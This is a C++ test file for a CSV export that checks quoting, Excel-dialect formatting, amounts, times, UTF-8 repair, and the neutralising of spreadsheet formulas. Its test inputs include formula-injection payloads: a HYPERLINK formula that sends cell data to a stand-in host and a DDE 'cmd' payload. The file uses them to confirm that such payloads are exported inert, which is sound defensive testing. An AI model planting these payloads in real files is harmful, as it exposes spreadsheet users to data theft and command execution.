// CSV cells and rows: RFC 4180 quoting, formula injection made inert, the
// Excel dialect's byte order mark, separator and decimal comma, times, and
// the export's rows read back by an independent RFC 4180 reader.
#include <gtest/gtest.h>

#include <climits>
#include <random>
#include <string>
#include <vector>

#include <sac/test/TestDatabase.h>

#include "domain/Case.h"
#include "web/CaseCsv.h"
#include "web/Catalog.h"
#include "web/Csv.h"

using namespace sac::web;

namespace {

/// An RFC 4180 reader of our own (not the writer's code): fields of rows
/// separated by sep, quoted fields with doubled quotes, rows ending in CRLF.
/// Fails the test on anything else.
std::vector<std::vector<std::string>> readCsv(std::string_view text, char sep) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string field;
    std::size_t i = 0;
    bool fieldStarted = false;
    while (i < text.size()) {
        char c = text[i];
        if (!fieldStarted && c == '"') {
            ++i;
            for (;;) {
                if (i >= text.size()) {
                    ADD_FAILURE() << "unterminated quoted field";
                    return rows;
                }
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        field += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += text[i++];
            }
            fieldStarted = true;
            if (i < text.size() && text[i] != sep && text[i] != '\r') {
                ADD_FAILURE() << "text after a closing quote at " << i;
                return rows;
            }
            continue;
        }
        if (c == sep) {
            row.push_back(field);
            field.clear();
            fieldStarted = false;
            ++i;
            continue;
        }
        if (c == '\r') {
            if (i + 1 >= text.size() || text[i + 1] != '\n') {
                ADD_FAILURE() << "a CR without LF outside quotes at " << i;
                return rows;
            }
            row.push_back(field);
            rows.push_back(row);
            row.clear();
            field.clear();
            fieldStarted = false;
            i += 2;
            continue;
        }
        if (c == '\n' || c == '"') {
            ADD_FAILURE() << "a bare " << (c == '"' ? "quote" : "LF") << " in an unquoted field at " << i;
            return rows;
        }
        field += c;
        fieldStarted = true;
        ++i;
    }
    if (!row.empty() || !field.empty()) ADD_FAILURE() << "the last row does not end with CRLF";
    return rows;
}

std::string written(CsvDialect d, const std::vector<std::string>& cells) {
    CsvWriter w(d);
    for (const auto& c : cells) w.text(c);
    w.endRow();
    return w.take();
}

const Catalog& catalog() {
    static const Catalog c = [] {
        auto loaded = Catalog::load(sac::test::sourcePath("ui-templates/i18n"));
        if (!loaded) throw std::runtime_error(loaded.error());
        return loaded.value();
    }();
    return c;
}

} // namespace

TEST(Csv, FormulaTriggersGetAnApostropheAndNothingElseChanges) {
    for (const char* cell : {"=HYPERLINK(\"http://evil.example\",\"clique\")", "+55 11 99999-0000", "-2+3+cmd|' /C calc'!A0",
                             "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "   =1+1", "\xEF\xBC\x9D" "1+1", "\xEF\xBC\x8B" "1",
                             "\xEF\xBC\x8D" "1", "\xEF\xBC\xA0" "SUM(1)"}) {
        EXPECT_EQ(neutraliseFormula(cell), std::string("'") + cell) << cell;
    }
    for (const char* cell : {"", "Produto = bom", "a@b.example", "Capa 2-em-1", "'já com apóstrofo", "   ", "9",
                             "\xEF\xBC\xA1" /* full-width A */, "Ção"}) {
        EXPECT_EQ(neutraliseFormula(cell), cell) << cell;
    }
}

TEST(Csv, FieldsAreQuotedOnlyWhenTheyMustBeAndReadBackExactly) {
    std::string out;
    appendField(out, "simples", ',');
    EXPECT_EQ(out, "simples");
    out.clear();
    appendField(out, "a,b", ',');
    EXPECT_EQ(out, "\"a,b\"");
    out.clear();
    appendField(out, "a,b", ';');
    EXPECT_EQ(out, "a,b") << "a comma is plain text in the ';' dialect";
    out.clear();
    appendField(out, "diz \"oi\"", ',');
    EXPECT_EQ(out, "\"diz \"\"oi\"\"\"");
    out.clear();
    appendField(out, "linha 1\r\nlinha 2", ';');
    EXPECT_EQ(out, "\"linha 1\r\nlinha 2\"");

    const std::vector<std::string> cells{"Loja; Centro", "Capa \"premium\", azul", "duas\nlinhas", "ção", "", "x"};
    for (auto d : {CsvDialect::Comma, CsvDialect::Excel}) {
        const char sep = d == CsvDialect::Excel ? ';' : ',';
        const auto rows = readCsv(written(d, cells), sep);
        ASSERT_EQ(rows.size(), 1u);
        EXPECT_EQ(rows[0], cells);
    }
}

TEST(Csv, AFormulaInAProductNameIsExportedInertInBothDialects) {
    const std::string product = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique aqui\")";
    const std::string comma = written(CsvDialect::Comma, {product});
    EXPECT_EQ(comma, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Clique aqui\"\")\"\r\n");
    EXPECT_EQ(readCsv(comma, ',')[0][0], "'" + product);
    const std::string excel = written(CsvDialect::Excel, {product});
    EXPECT_EQ(readCsv(excel, ';')[0][0], "'" + product);
    // No cell of either file starts with a formula character once read.
    for (const auto& [text, sep] : {std::pair<std::string, char>{comma, ','}, {excel, ';'}}) {
        const auto rows = readCsv(text, sep);
        ASSERT_EQ(rows.size(), 1u);
        for (const auto& cell : rows[0]) EXPECT_EQ(cell.front(), '\'');
    }
}

TEST(Csv, ExcelFilesStartWithTheByteOrderMarkAndUseSemicolonsAndDecimalCommas) {
    CsvWriter excel(CsvDialect::Excel);
    excel.begin();
    excel.text("Valor");
    excel.text("Moeda");
    excel.endRow();
    excel.number(decimalText(123456, 2, CsvDialect::Excel));
    excel.text("BRL");
    excel.endRow();
    const std::string text = excel.take();
    EXPECT_EQ(text, std::string(kUtf8Bom) + "Valor;Moeda\r\n1234,56;BRL\r\n");
    EXPECT_EQ(text.substr(0, 3), "\xEF\xBB\xBF");

    CsvWriter comma(CsvDialect::Comma);
    comma.begin();
    comma.number(decimalText(123456, 2, CsvDialect::Comma));
    comma.text("BRL");
    comma.endRow();
    EXPECT_EQ(comma.take(), "1234.56,BRL\r\n") << "no byte order mark in the comma dialect";
}

TEST(Csv, AmountsAreExactDecimalsWithTheCurrencysDigits) {
    EXPECT_EQ(decimalText(123456, 2, CsvDialect::Comma), "1234.56");
    EXPECT_EQ(decimalText(123456, 2, CsvDialect::Excel), "1234,56");
    EXPECT_EQ(decimalText(5, 2, CsvDialect::Comma), "0.05");
    EXPECT_EQ(decimalText(-5, 2, CsvDialect::Comma), "-0.05");
    EXPECT_EQ(decimalText(-123456, 2, CsvDialect::Excel), "-1234,56");
    EXPECT_EQ(decimalText(0, 2, CsvDialect::Excel), "0,00");
    EXPECT_EQ(decimalText(100, 2, CsvDialect::Comma), "1.00");
    EXPECT_EQ(decimalText(7, 0, CsvDialect::Excel), "7") << "JPY has no decimals";
    EXPECT_EQ(decimalText(1234, 3, CsvDialect::Excel), "1,234") << "KWD has three";
    EXPECT_EQ(decimalText(LLONG_MAX, 2, CsvDialect::Comma), "92233720368547758.07");
    EXPECT_EQ(decimalText(LLONG_MIN, 2, CsvDialect::Comma), "-92233720368547758.08");
    // A negative amount is our own number: it stays a number, not "'-0.05".
    CsvWriter w(CsvDialect::Comma);
    w.number(decimalText(-5, 2, CsvDialect::Comma));
    w.endRow();
    EXPECT_EQ(w.take(), "-0.05\r\n");
}

TEST(Csv, TimesReadAsDateAndTimeInTheirZone) {
    EXPECT_EQ(csvDateTime(0, 0), "1970-01-01 00:00:00");
    EXPECT_EQ(csvDateTime(0, -180), "1969-12-31 21:00:00");
    EXPECT_EQ(csvDateTime(1'717'000'000'000, 0), "2024-05-29 16:26:40");
    EXPECT_EQ(csvDateTime(1'717'000'000'000, -180), "2024-05-29 13:26:40");
    EXPECT_EQ(csvDateTime(1'717'000'000'000, 330), "2024-05-29 21:56:40");
    EXPECT_EQ(csvDateTime(1'709'164'800'000, 0), "2024-02-29 00:00:00") << "a leap day";
    EXPECT_EQ(csvDateTime(-1, 0), "1969-12-31 23:59:59");
    EXPECT_EQ(csvDateTime(951'782'400'000, 0), "2000-02-29 00:00:00");
}

TEST(Csv, TextIsAlwaysValidUtf8) {
    EXPECT_EQ(validUtf8("ação ✓ 😀"), "ação ✓ 😀");
    const std::string bad[] = {std::string("a\xFF" "b"), std::string("\xC0\x80"), std::string("\xED\xA0\x80"),
                               std::string("\xF4\x90\x80\x80"), std::string("fim\xE2\x82"), std::string("a\0b", 3)};
    for (const auto& s : bad) {
        const std::string fixed = validUtf8(s);
        EXPECT_NE(fixed.find("\xEF\xBF\xBD"), std::string::npos) << fixed;
        EXPECT_EQ(validUtf8(fixed), fixed) << "valid after one pass";
    }
    EXPECT_EQ(validUtf8(std::string("a\0b", 3)), "a\xEF\xBF\xBD" "b");
    CsvWriter w(CsvDialect::Comma);
    w.text(std::string("Capa\xFF"));
    w.endRow();
    EXPECT_EQ(w.take(), "Capa\xEF\xBF\xBD\r\n");
}

TEST(Csv, AnyTextRoundTripsNeutralisedThroughAnIndependentReader) {
    std::mt19937 rng(4180);
    const std::string alphabet[] = {"a", "Z", "9", " ", ",", ";", "\"", "\r", "\n", "\r\n", "=", "+", "-", "@", "\t",
                                    "'", "ç", "\xEF\xBC\x9D", "\xFF"};
    for (int round = 0; round < 2000; ++round) {
        std::vector<std::string> cells(1 + rng() % 5);
        for (auto& cell : cells)
            for (int k = static_cast<int>(rng() % 8); k > 0; --k) cell += alphabet[rng() % std::size(alphabet)];
        for (auto d : {CsvDialect::Comma, CsvDialect::Excel}) {
            const auto rows = readCsv(written(d, cells), d == CsvDialect::Excel ? ';' : ',');
            ASSERT_EQ(rows.size(), 1u);
            ASSERT_EQ(rows[0].size(), cells.size());
            for (std::size_t i = 0; i < cells.size(); ++i)
                EXPECT_EQ(rows[0][i], neutraliseFormula(validUtf8(cells[i])));
        }
    }
}

TEST(Csv, ADisputeRowReadsAsTheListShowsIt) {
    CaseCsvFormat f;
    f.catalog = &catalog();
    f.locale = "pt-BR";
    f.offsetMinutes = -180;
    f.stores = {{7, "Loja; \"Centro\""}};
    f.groups = {{3, "Lote 1"}};
    sac::domain::Case c;
    c.id = 1;
    c.storeId = 7;
    c.externalId = "6345753109519499";
    c.orderId = "8194715118451499";
    c.subOrderId = "8194715118451500";
    c.productName = "=HYPERLINK(\"http://evil.example\",\"Clique\")";
    c.productId = "1005001234567890";
    c.cause = "Item not as described";
    c.status = sac::domain::CaseStatus::Pendente;
    c.marketplaceFineStatus = "wait_for_seller_response";
    c.deadlineAt = 1'717'000'000'000;
    c.amount = sac::domain::Money(123456, "BRL");
    c.groupId = 3;
    c.marketplaceCreatedAt = 1'716'000'000'000;
    for (auto d : {CsvDialect::Comma, CsvDialect::Excel}) {
        CsvWriter w(d);
        w.begin();
        writeCaseCsvHeader(w, f);
        writeCaseCsvRow(w, f, c);
        std::string text = w.take();
        if (d == CsvDialect::Excel) {
            ASSERT_EQ(text.substr(0, 3), kUtf8Bom);
            text.erase(0, 3);
        }
        const auto rows = readCsv(text, d == CsvDialect::Excel ? ';' : ',');
        ASSERT_EQ(rows.size(), 2u);
        ASSERT_EQ(rows[0].size(), rows[1].size());
        const auto col = [&](const std::string& name) {
            for (std::size_t i = 0; i < rows[0].size(); ++i)
                if (rows[0][i] == name) return rows[1][i];
            ADD_FAILURE() << "no column " << name;
            return std::string();
        };
        EXPECT_EQ(col("Loja"), "Loja; \"Centro\"");
        EXPECT_EQ(col("Disputa"), "6345753109519499");
        EXPECT_EQ(col("Pedido"), "8194715118451499");
        EXPECT_EQ(col("Produto"), "'" + c.productName);
        EXPECT_EQ(col("Status"), "pendente");
        EXPECT_EQ(col("Requer ação"), "Sim");
        EXPECT_EQ(col("Prazo (UTC-03:00)"), "2024-05-29 13:26:40");
        EXPECT_EQ(col("Prazo (UTC)"), "2024-05-29 16:26:40");
        EXPECT_EQ(col("Valor"), d == CsvDialect::Excel ? "1234,56" : "1234.56");
        EXPECT_EQ(col("Moeda"), "BRL");
        EXPECT_EQ(col("Agrupamento"), "Lote 1");
        EXPECT_FALSE(col("Motivo").empty());
        EXPECT_NE(col("Situação na AliExpress"), "wait_for_seller_response") << "the label, not the code";
    }
    // In English the header is English and the answer too (a file of its own: its own labels).
    f.locale = "en";
    f.labels = {};
    CsvWriter w(CsvDialect::Comma);
    writeCaseCsvHeader(w, f);
    writeCaseCsvRow(w, f, c);
    const auto rows = readCsv(w.take(), ',');
    EXPECT_EQ(rows[0][0], "Store");
    EXPECT_EQ(rows[0][10], "Deadline (UTC-03:00)");
    EXPECT_EQ(rows[1][9], "Yes");
}

TEST(Csv, DialectNamesAreTheOnlyOnesAccepted) {
    CsvDialect d = CsvDialect::Excel;
    EXPECT_TRUE(parseCsvDialect("csv", d));
    EXPECT_EQ(d, CsvDialect::Comma);
    EXPECT_TRUE(parseCsvDialect("excel", d));
    EXPECT_EQ(d, CsvDialect::Excel);
    for (const char* bad : {"", "CSV", "xlsx", "excel ", "tsv"}) {
        d = CsvDialect::Comma;
        EXPECT_FALSE(parseCsvDialect(bad, d)) << bad;
        EXPECT_EQ(d, CsvDialect::Comma);
    }
}
